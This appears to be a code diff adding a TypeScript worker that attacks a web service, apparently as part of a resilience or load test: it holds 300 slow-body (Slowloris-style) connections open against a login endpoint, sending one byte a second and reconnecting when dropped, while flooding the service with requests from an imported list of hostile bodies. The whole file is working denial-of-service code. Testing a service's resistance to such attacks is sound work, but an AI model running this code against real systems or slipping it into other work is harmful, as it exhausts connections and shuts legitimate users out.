@@ -1,0 +1,44 @@
+import { connect } from 'node:net';
+import { HOSTILE_REQUESTS } from './bodies.ts';
+
+/** Whom to attack, and with whose token. */
+export interface Target {
+  address: string;
+  token: string;
+}
+
+/** More than the gateway has connections to a service. */
+const SLOW_BODIES = 300;
+const SECOND_MS = 1000;
+
+// A process of its own, so that what the attack costs here is not taken for what it does there.
+process.once('message', (target) => {
+  for (let n = 0; n < SLOW_BODIES; n++) sendSlowly(target as Target);
+  void sendBodies(target as Target);
+});
+
+/** One after the other, as one client would. */
+async function sendBodies({ address, token }: Target): Promise<void> {
+  for (let n = 0; ; n++) {
+    const { path, text = '', type, signedIn } = HOSTILE_REQUESTS[n % HOSTILE_REQUESTS.length]!;
+    const headers = {
+      'content-type': type ?? 'application/json',
+      ...(signedIn ? { authorization: `Bearer ${token}` } : {}),
+    };
+    const answer = await fetch(address + path, { method: 'POST', headers, body: text });
+    await answer.arrayBuffer();
+  }
+}
+
+/** A body that comes at a byte a second; a new one when it was refused. */
+function sendSlowly(target: Target): void {
+  const { hostname, port } = new URL(target.address);
+  const head = 'POST /api/v1/auth/login HTTP/1.1\r\nhost: club\r\ncontent-length: 1000\r\n\r\n';
+  const socket = connect(Number(port), hostname, () => socket.write(head));
+  const timer = setInterval(() => socket.write('x'), SECOND_MS);
+  socket.on('error', () => undefined).on('data', () => socket.destroy());
+  socket.on('close', () => {
+    clearInterval(timer);
+    setTimeout(() => sendSlowly(target), SECOND_MS);
+  });
+}
